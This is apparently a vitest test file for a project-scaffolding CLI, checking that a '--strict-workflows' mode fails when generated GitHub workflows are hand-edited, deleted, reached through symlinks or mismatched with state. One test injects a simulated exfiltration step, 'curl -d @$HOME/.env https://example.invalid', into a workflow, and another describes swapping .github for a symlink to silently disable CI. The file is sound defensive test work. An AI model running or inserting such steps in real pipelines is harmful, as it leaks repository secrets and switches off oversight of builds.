// A pull request can edit a generated workflow (a step that sends the repository's secrets away on
// the next push to main) and, without --strict, `check` lists that as a hand edit and passes. The
// generated check workflow runs `check --strict-workflows`: any edit or deletion of a generated
// file under .github/, and a state entry for a file the pack did not generate, fail it; hand edits
// elsewhere still pass. The step is replayed as the runner runs it (its working-directory under
// RUNNER_TEMP, its env, bash -eo pipefail), with npx standing for this build of the tool, and what
// it prints must name the repository as its root, not the runner's folders.
import { spawnSync } from "node:child_process";
import { chmodSync, cpSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { hashContent } from "../../src/core/hash.js";
import { checkWorkflow } from "../../src/core/check-workflow.js";
import { TOOL_VERSION } from "../../src/version.js";
import { BIN, buildOnce } from "../support/build.js";
import { type Step, checkStep } from "../support/check-step.js";
import { runCli, tempDir } from "../support/cli.js";
import { commitAll, git } from "../support/repo.js";

beforeAll(buildOnce);

const CI = ".github/workflows/ci.yml";

/** A repository made by the built-in pack, under git. */
async function repo(): Promise<string> {
  const dir = join(tempDir("cp-strictwf-"), "svc");
  const r = await runCli([dir, "--yes", "--owner", "acme"]);
  expect(r.code, r.stderr).toBe(0);
  git(dir, "init", "-q");
  commitAll(dir, "create");
  return dir;
}

const check = (dir: string, ...flags: string[]) => runCli(["check", dir, ...flags]);

describe("check --strict-workflows", () => {
  it("fails on a hand edit of a generated workflow that plain check lets through", async () => {
    const dir = await repo();
    const ci = readFileSync(join(dir, CI), "utf8");
    writeFileSync(join(dir, CI), ci.replace(/\n {6}- name: /, "\n      - run: curl -d @$HOME/.env https://example.invalid\n      - name: "));
    const plain = await check(dir);
    expect(plain.code, plain.stdout).toBe(0);
    const strict = await check(dir, "--strict-workflows");
    expect(strict.code, strict.stdout).toBe(3);
    expect(strict.stdout).toContain(`${CI}: `);
    expect(strict.stdout).toContain("(fails with --strict-workflows)");
    const json = JSON.parse((await check(dir, "--strict-workflows", "--json")).stdout);
    expect(json.problems).toContainEqual(expect.objectContaining({ kind: "hand-edit", path: CI }));
  });

  // GitHub does not run a workflow through a symlink (a symlinked .github folder or workflow file
  // runs nothing): a pull request that swaps the folder or a file for a link to an identical copy
  // switches CI and delivery off while every file's content still matches.
  it("fails when .github or a generated workflow is reached through a symlink with identical content", async () => {
    const dir = await repo();
    renameSync(join(dir, ".github"), join(dir, "shared-gh"));
    symlinkSync("shared-gh", join(dir, ".github"));
    const strict = await check(dir, "--strict-workflows");
    expect(strict.code, strict.stdout).toBe(3);
    expect(strict.stdout).toContain(`${CI}: .github is a symlink (fails with --strict-workflows)`);
    expect(strict.stdout).toContain("Drift found: generated files are reached through a symlink (.github)");
    const json = JSON.parse((await check(dir, "--strict", "--json")).stdout);
    expect(json.exitCode).toBe(3);
    expect(json.problems).toContainEqual(expect.objectContaining({ kind: "symlink", path: CI }));

    const one = await repo();
    mkdirSync(join(one, "sub"));
    cpSync(join(one, CI), join(one, "sub", "ci.yml"));
    rmSync(join(one, CI));
    symlinkSync("../../sub/ci.yml", join(one, CI));
    expect((await check(one, "--strict-workflows")).code).toBe(3);
    // without a strict flag it is reported, not failed
    const plain = await check(one);
    expect(plain.code, plain.stdout).toBe(0);
    expect(plain.stdout).toContain(`${CI}: ${CI} is a symlink`);
  });

  it("fails on a deleted generated workflow", async () => {
    const dir = await repo();
    rmSync(join(dir, CI));
    expect((await check(dir)).code).toBe(0);
    const strict = await check(dir, "--strict-workflows");
    expect(strict.code).toBe(3);
    expect(strict.stdout).toMatch(/- \.github\/workflows\/ci\.yml \(fails with --strict-workflows\)/);
  });

  it("fails on a state entry for a file the pack did not generate", async () => {
    const dir = await repo();
    writeFileSync(join(dir, "notes.txt"), "mine\n");
    const state = JSON.parse(readFileSync(join(dir, ".create-pipeline/state.json"), "utf8"));
    state.files["notes.txt"] = { hash: hashContent("mine\n"), owner: "managed" };
    writeFileSync(join(dir, ".create-pipeline/state.json"), `${JSON.stringify(state, null, 2)}\n`);
    expect((await check(dir)).code).toBe(0);
    const strict = await check(dir, "--strict-workflows", "--json");
    expect(strict.code).toBe(3);
    expect(JSON.parse(strict.stdout).problems).toContainEqual(expect.objectContaining({ kind: "state-mismatch", path: "notes.txt" }));
  });

  it("still lets a hand edit outside .github/ pass (it is listed)", async () => {
    const dir = await repo();
    const df = readFileSync(join(dir, "Dockerfile"), "utf8");
    writeFileSync(join(dir, "Dockerfile"), `${df}# ours\n`);
    const r = await check(dir, "--strict-workflows");
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).toContain("Dockerfile");
  });
});

/** Run the step as the runner does, npx standing for this build (`npx --yes <pkg>@<v> <args>` → `node BIN <args>`). */
function replay(step: Step, checkout: string) {
  const runnerTemp = join(tempDir("cp-runner-"), "_temp");
  mkdirSync(runnerTemp);
  const shims = tempDir("cp-shim-");
  writeFileSync(
    join(shims, "npx"),
    `#!/bin/bash\n[ "$1" = --yes ] && shift\ncase "$1" in @create-pipeline/cli@${TOOL_VERSION}) shift;; *) echo "unexpected package $1"; exit 99;; esac\nexec "${process.execPath}" "${BIN}" "$@"\n`,
  );
  chmodSync(join(shims, "npx"), 0o755);
  const expand = (v: string) => v.replaceAll("${{ runner.temp }}", runnerTemp);
  const env: NodeJS.ProcessEnv = {
    PATH: `${shims}:${process.env.PATH}`,
    HOME: tempDir("cp-home-"),
    GITHUB_ACTIONS: "true",
    GITHUB_WORKSPACE: checkout,
    RUNNER_TEMP: runnerTemp,
    CI: "true",
    CREATE_PIPELINE_CONFIG_DIR: tempDir("cp-config-"),
  };
  for (const [k, v] of Object.entries(step.env ?? {})) env[k] = expand(String(v));
  const cwd = expand(step["working-directory"] ?? checkout);
  const r = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", step.run!], { cwd, env, encoding: "utf8", timeout: 120_000 });
  // The report's wrapped lines joined again, so a sentence reads as one line.
  return { code: r.status, out: `${r.stdout}\n${r.stderr}`.replace(/\n {2,}/g, " "), runnerTemp };
}

describe("the check workflow, replayed as the runner runs it", () => {
  const cases: [string, (dir: string) => string][] = [
    ["the built-in pack's pipeline-check.yml", (dir) => readFileSync(join(dir, ".github/workflows/pipeline-check.yml"), "utf8")],
    ["the workflow check --add-workflow writes", () => checkWorkflow(TOOL_VERSION)],
  ];
  for (const [what, workflow] of cases)
    it(`${what}: a tampered generated workflow fails, and the report names paths in the repository, not the runner's`, async () => {
      const dir = await repo();
      const step = checkStep(workflow(dir));
      expect(step.run).toContain("check --strict-workflows");
      expect(replay(step, dir).code).toBe(0);
      const ci = readFileSync(join(dir, CI), "utf8");
      writeFileSync(join(dir, CI), `${ci}# tampered\n`);
      const r = replay(step, dir);
      expect(r.code, r.out).toBe(3);
      expect(r.out).toContain(`${CI}: `);
      // The commands to run are the ones for a clone: no runner folder in them.
      expect(r.out).toMatch(/`?npx @create-pipeline\/cli@\S+ diff`? shows the edits/);
      expect(r.out).not.toContain(dir);
      expect(r.out).not.toContain(r.runnerTemp);
      // an answer changed in the pull request: a pending update, named the same way
      const answers = join(dir, ".create-pipeline.yaml");
      const text = readFileSync(answers, "utf8");
      expect(text).toMatch(/^port: \d+$/m);
      writeFileSync(answers, text.replace(/^port: \d+$/m, "port: 9999"));
      const u = replay(step, dir);
      expect(u.code, u.out).toBe(3);
      expect(u.out).toMatch(/Drift found: run npx @create-pipeline\/cli@\S+ update\./);
      expect(u.out).not.toContain(dir);
    }, 180_000);
});
